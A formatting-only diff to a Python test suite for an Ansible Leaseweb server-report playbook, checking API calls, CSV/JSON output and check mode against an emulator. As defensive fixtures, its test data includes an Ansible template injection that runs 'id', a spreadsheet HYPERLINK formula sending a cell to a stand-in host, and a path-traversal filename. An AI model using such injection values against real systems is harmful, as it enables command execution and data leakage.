@@ -25,8 +25,16 @@ API = '/bareMetals/v2'
 def run_report(emulator, cwd, *args):
     """``ansible-playbook leaseweb.dedicated.report ARGS`` in ``cwd``, the key in the environment."""
     command = [ansible_command('ansible-playbook'), 'leaseweb.dedicated.report'] + list(args)
-    return subprocess.run(command, cwd=str(cwd), env=ansible_env(emulator, LEASEWEB_API_KEY=emulator.api_key),
-                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=300, check=False)
+    return subprocess.run(
+        command,
+        cwd=str(cwd),
+        env=ansible_env(emulator, LEASEWEB_API_KEY=emulator.api_key),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+        timeout=300,
+        check=False,
+    )
 
 
 def get(emulator, path, **query):
@@ -48,24 +56,48 @@ def expected(emulator, server_id):
     install = newest(get(emulator, '/servers/%s/jobs' % server_id, type='install')['jobs'])
     powered_on = 'off' not in (power['ipmi']['status'], power['pdu']['status'])
     row = dict(
-        id=server_id, reference=record['contract'].get('reference') or '', site=record['location']['site'],
-        rack=record['location']['rack'], public_ip=public['ip'].split('/')[0], power='on' if powered_on else 'off',
+        id=server_id,
+        reference=record['contract'].get('reference') or '',
+        site=record['location']['site'],
+        rack=record['location']['rack'],
+        public_ip=public['ip'].split('/')[0],
+        power='on' if powered_on else 'off',
         null_routed='true' if public['nullRouted'] else 'false',
-        job_type=running['type'] if running else '', job_status=running['status'] if running else '',
+        job_type=running['type'] if running else '',
+        job_status=running['status'] if running else '',
         job_progress=str(running['progress']['percentage']) if running else '',
         operating_system=install['payload']['operatingSystemId'] if install else '',
-        install_status=install['status'] if install else '')
+        install_status=install['status'] if install else '',
+    )
     entry = dict(
-        id=server_id, asset_id=record['assetId'], reference=record['contract'].get('reference'),
-        site=record['location']['site'], rack=record['location']['rack'], public_ip=public['ip'].split('/')[0],
-        null_routed=public['nullRouted'], powered_on=powered_on, power=power,
-        running_job=running and dict(type=running['type'], uuid=running['uuid'], status=running['status'],
-                                     progress=running['progress'], created_at=running['createdAt'],
-                                     updated_at=running['updatedAt']),
-        last_install=install and dict(operating_system_id=install['payload']['operatingSystemId'],
-                                      operating_system_name=install['payload']['os']['name'], uuid=install['uuid'],
-                                      status=install['status'], created_at=install['createdAt'],
-                                      updated_at=install['updatedAt']))
+        id=server_id,
+        asset_id=record['assetId'],
+        reference=record['contract'].get('reference'),
+        site=record['location']['site'],
+        rack=record['location']['rack'],
+        public_ip=public['ip'].split('/')[0],
+        null_routed=public['nullRouted'],
+        powered_on=powered_on,
+        power=power,
+        running_job=running
+        and dict(
+            type=running['type'],
+            uuid=running['uuid'],
+            status=running['status'],
+            progress=running['progress'],
+            created_at=running['createdAt'],
+            updated_at=running['updatedAt'],
+        ),
+        last_install=install
+        and dict(
+            operating_system_id=install['payload']['operatingSystemId'],
+            operating_system_name=install['payload']['os']['name'],
+            uuid=install['uuid'],
+            status=install['status'],
+            created_at=install['createdAt'],
+            updated_at=install['updatedAt'],
+        ),
+    )
     return row, entry
 
 
@@ -75,14 +107,23 @@ def read_csv(path):
 
 
 def calls(log):
-    return collections.Counter('%s %s%s' % (r['method'], r['path'][len(API):], '?' + '&'.join(
-        '%s=%s' % (k, r['query'][k]) for k in sorted(r['query'])) if r.get('query') else '') for r in log)
+    return collections.Counter(
+        '%s %s%s'
+        % (
+            r['method'],
+            r['path'][len(API) :],
+            '?' + '&'.join('%s=%s' % (k, r['query'][k]) for k in sorted(r['query'])) if r.get('query') else '',
+        )
+        for r in log
+    )
 
 
 def per_server(server_id, record=False):
-    reads = ['GET /servers/%s/powerInfo' % server_id,
-             'GET /servers/%s/jobs?isRunning=true&limit=50&offset=0' % server_id,
-             'GET /servers/%s/jobs?limit=50&offset=0&type=install' % server_id]
+    reads = [
+        'GET /servers/%s/powerInfo' % server_id,
+        'GET /servers/%s/jobs?isRunning=true&limit=50&offset=0' % server_id,
+        'GET /servers/%s/jobs?limit=50&offset=0&type=install' % server_id,
+    ]
     return (['GET /servers/%s' % server_id] if record else []) + reads
 
 
@@ -93,9 +134,14 @@ def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path
     nulled_ip = get(emulator, '/servers/%s' % nulled)['networkInterfaces']['public']['ip'].split('/')[0]
     assert emulator.api('POST', '/servers/%s/ips/%s/null' % (nulled, nulled_ip)).status_code == 202
     assert emulator.api('POST', '/servers/%s/powerOff' % off).status_code == 204
-    assert emulator.api('POST', '/servers/%s/install' % installing, json={'operatingSystemId': 'DEBIAN_12_64BIT'}).status_code == 202
+    assert (
+        emulator.api(
+            'POST', '/servers/%s/install' % installing, json={'operatingSystemId': 'DEBIAN_12_64BIT'}
+        ).status_code
+        == 202
+    )
     # a label with a comma, quotes and a template: data, written as it is
-    label = 'web, "edge" {{ lookup(\'pipe\', \'id\') }}'
+    label = "web, \"edge\" {{ lookup('pipe', 'id') }}"
     assert emulator.api('PUT', '/servers/%s' % labelled, json={'reference': label}).status_code == 204
     # hostile labels: a formula a spreadsheet would run, and a line break that would forge a row of the table
     hyperlink = '=HYPERLINK("http://x.example/"&A1,"click")'
@@ -110,7 +156,9 @@ def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path
     assert result.returncode == 0, result.stdout[-20000:]
 
     # one list page and three reads per server, nothing written
-    assert calls(log) == collections.Counter(['GET /servers?limit=100&offset=0'] + [c for i in ids for c in per_server(i)])
+    assert calls(log) == collections.Counter(
+        ['GET /servers?limit=100&offset=0'] + [c for i in ids for c in per_server(i)]
+    )
     assert [r for r in log if r['method'] != 'GET'] == []
 
     wanted = [expected(emulator, server_id) for server_id in sorted(ids, key=int)]
@@ -156,14 +204,29 @@ def test_an_inventory_group_narrowed_with_limit_one_task_for_all_its_hosts(emula
     ams = sorted((s['id'] for s in fleet if s['location']['site'] == 'AMS-01'), key=int)
     assert len(ams) > 3
     emulator.clear()
-    result = run_report(emulator, tmp_path, '-i', str(inventory), '-e', 'target=leaseweb_ams_01', '--limit', '!' + ams[0],
-                        '-e', 'report_csv=', '-e', 'report_json=out/../group.json', '-e', 'report_concurrency=4')
+    result = run_report(
+        emulator,
+        tmp_path,
+        '-i',
+        str(inventory),
+        '-e',
+        'target=leaseweb_ams_01',
+        '--limit',
+        '!' + ams[0],
+        '-e',
+        'report_csv=',
+        '-e',
+        'report_json=out/../group.json',
+        '-e',
+        'report_concurrency=4',
+    )
     log = emulator.take()
     assert result.returncode == 0, result.stdout[-20000:]
     reported = ams[1:]
     # the inventory's list page, then the record and three reads per host, in one task
-    assert calls(log) == collections.Counter(['GET /servers?limit=100&offset=0'] + [
-        c for i in reported for c in per_server(i, record=True)])
+    assert calls(log) == collections.Counter(
+        ['GET /servers?limit=100&offset=0'] + [c for i in reported for c in per_server(i, record=True)]
+    )
     assert result.stdout.count('TASK [Read the servers, concurrently, in one task]') == 1
     document = json.loads((tmp_path / 'group.json').read_text())
     # the hosts in inventory order (by id here)
@@ -173,11 +236,14 @@ def test_an_inventory_group_narrowed_with_limit_one_task_for_all_its_hosts(emula
 
 
 def test_check_mode_shows_the_table_and_writes_no_file(emulator, tmp_path):
-    result = run_report(emulator, tmp_path, '--check', '-e', 'report_server_ids=12345,99999,', '-e', 'report_include=power')
+    result = run_report(
+        emulator, tmp_path, '--check', '-e', 'report_server_ids=12345,99999,', '-e', 'report_include=power'
+    )
     log = emulator.take()
     assert result.returncode == 0, result.stdout[-20000:]
-    assert calls(log) == collections.Counter(['GET /servers/12345', 'GET /servers/12345/powerInfo',
-                                              'GET /servers/99999', 'GET /servers/99999/powerInfo'])
+    assert calls(log) == collections.Counter(
+        ['GET /servers/12345', 'GET /servers/12345/powerInfo', 'GET /servers/99999', 'GET /servers/99999/powerInfo']
+    )
     assert '"1 server; 1 on, 0 off; 0 null routed; not found (HTTP 404): 99999"' in result.stdout
     assert '(not written in check mode)' in result.stdout
     assert list(tmp_path.iterdir()) == []
@@ -186,7 +252,9 @@ def test_check_mode_shows_the_table_and_writes_no_file(emulator, tmp_path):
 def test_servers_chosen_two_ways_fail_before_any_request(emulator, tmp_path):
     result = run_report(emulator, tmp_path, '-e', 'report_server_ids=12345', '-e', 'report_site=AMS-01')
     assert result.returncode != 0
-    assert ('Choose the servers one way: target (hosts of the inventory), report_server_ids, or the filters of the '
-            "API's server list (report_site)") in ' '.join(result.stdout.split())
+    assert (
+        'Choose the servers one way: target (hosts of the inventory), report_server_ids, or the filters of the '
+        "API's server list (report_site)"
+    ) in ' '.join(result.stdout.split())
     assert emulator.take() == []
     assert list(tmp_path.iterdir()) == []
